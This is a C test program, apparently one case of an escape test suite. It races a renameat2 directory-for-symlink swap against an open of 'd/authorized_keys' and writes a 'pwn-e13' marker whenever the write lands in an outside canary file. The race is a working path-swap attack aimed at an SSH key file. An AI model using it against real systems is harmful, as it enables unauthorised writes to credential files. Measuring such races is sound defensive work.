/* E13: an intermediate directory swapped with a symlink to a directory
 * outside (renameat2 RENAME_EXCHANGE of "d" and "d.swap") while the writer
 * opens "d/authorized_keys". Run in the workspace directory, which holds
 * d/ (a real directory with authorized_keys) and d.swap -> EVILDIR. */
#include "esc.h"
#include <pthread.h>
#include <stdio.h>
#include <sys/syscall.h>

static volatile int stop;

static void *flip(void *arg)
{
	(void)arg;
	while (!stop)
		syscall(SYS_renameat2, AT_FDCWD, "d", AT_FDCWD, "d.swap", 2 /* RENAME_EXCHANGE */);
	return NULL;
}

int main(int argc, char **argv)
{
	esc_usage(argc, 3, "e13_dir_swap SECONDS EVILFILE");
	double end = esc_now() + atof(argv[1]);
	struct esc_id canary = esc_id_of(argv[2]);
	pthread_t t;
	pthread_create(&t, NULL, flip, NULL);
	long attempts = 0, ok = 0, hits = 0;
	while (esc_now() < end && !esc_race_done(hits)) {
		attempts++;
		int fd = open("d/authorized_keys", O_WRONLY | O_APPEND);
		if (fd < 0)
			continue;
		ok++;
		if (esc_fd_is(fd, canary)) {
			hits++;
			if (write(fd, "pwn-e13\n", 8) < 0)
				perror("write");
		}
		close(fd);
	}
	stop = 1;
	pthread_join(t, NULL);
	esc_race_result(attempts, ok, hits);
	return 0;
}
